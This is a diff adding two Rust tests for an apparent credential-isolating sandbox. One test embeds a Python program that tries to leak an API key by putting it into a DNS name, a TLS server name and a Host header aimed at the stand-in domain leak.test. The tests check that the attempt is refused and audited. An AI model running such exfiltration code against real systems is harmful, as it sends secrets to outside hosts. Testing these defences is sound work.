@@ -378,3 +378,72 @@ fn h16_alt_svc_is_dropped() {
         });
     }
 }
+
+#[test]
+fn c1_a_placeholder_in_a_host_name_is_refused_and_nobody_is_asked_for_it() {
+    // Looked up, in the ClientHello alone, in `:authority` and `Host` alone, and where TLS is not opened at all.
+    let program = "import os, socket, ssl\n\
+        name = os.environ['LAB_API_KEY'].lower() + '.leak.test'\n\
+        try: print('looked up', socket.getaddrinfo(name, 443))\n\
+        except OSError as error: print('refused')\n\
+        context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE\n\
+        def ask(stream, host):\n\
+        \x20   stream.settimeout(20)\n\
+        \x20   stream.sendall(f'GET /x HTTP/1.1\\r\\nhost: {host}\\r\\nconnection: close\\r\\n\\r\\n'.encode())\n\
+        \x20   print(stream.recv(65536).split(b'\\r\\n')[0].decode())\n\
+        def tls(): return context.wrap_socket(socket.create_connection(('192.0.2.1', 443)), server_hostname=name)\n\
+        for make in (lambda: ask(tls(), name), lambda: ask(socket.create_connection(('192.0.2.1', 80)), name)):\n\
+        \x20   try: make()\n\
+        \x20   except OSError as error: print('reset')\n";
+    for passthrough in [false, true] {
+        Lab::test(|lab| {
+            let mut policy = policy(lab);
+            policy["network"]["allow"] = json!([HOST, "*.leak.test"]);
+            if passthrough {
+                policy["network"]["passthrough"] = json!(["*.leak.test"]);
+            }
+            let names = lab.names(&[("leak.test", &[&["127.0.0.1".parse().unwrap()]])]);
+            let outcome = lab.sandbox(&policy).resolver(names.address()).python(program);
+            let tls = if passthrough { "reset" } else { "HTTP/1.1 403 Forbidden" };
+            let expected = format!("refused\n{tls}\nHTTP/1.1 403 Forbidden\n");
+            assert_eq!(outcome.success().out(), expected, "{}", outcome.tail());
+            let misuse =
+                outcome.audit.iter().filter(|record| record.reason.as_deref() == Some("credential_misuse"));
+            let kinds: Vec<_> =
+                misuse.map(|record| record.kind.as_str()).filter(|kind| *kind != "dns").collect();
+            assert_eq!(
+                kinds,
+                [if passthrough { "connection" } else { "request" }, "request"],
+                "{:#?}",
+                outcome.audit
+            );
+            assert!(
+                outcome
+                    .audit
+                    .iter()
+                    .any(|record| record.kind == "dns"
+                        && record.reason.as_deref() == Some("credential_misuse"))
+            );
+            let asked = names.asked();
+            assert!(!asked.iter().any(|name| name.contains("leak")), "{asked:?}");
+        });
+    }
+}
+
+#[test]
+fn c12_a_placeholder_of_one_sandbox_is_nothing_in_another() {
+    Lab::test(|lab| {
+        let first = lab.sandbox(&policy(lab)).shell("echo $LAB_API_KEY");
+        let foreign = first.success().out().trim().to_owned();
+        let key = lab.another_key();
+        let mut policy = policy(lab);
+        policy["credentials_v2"]["lab"]["key"] = json!({ "file": lab.secret_file("second", &key) });
+        let arguments = format!(
+            "-H 'authorization: Bearer {foreign}' https://{HOST}/v1/x && curl -sS -H 'x-a: {foreign}' https://{OTHER}/x"
+        );
+        curl(lab, &policy, &arguments).success();
+        let seen = lab.seen();
+        assert_eq!(seen[0].values("authorization"), [format!("Bearer {key}")]);
+        assert_eq!(seen[1].values("x-a"), [foreign]);
+    });
+}
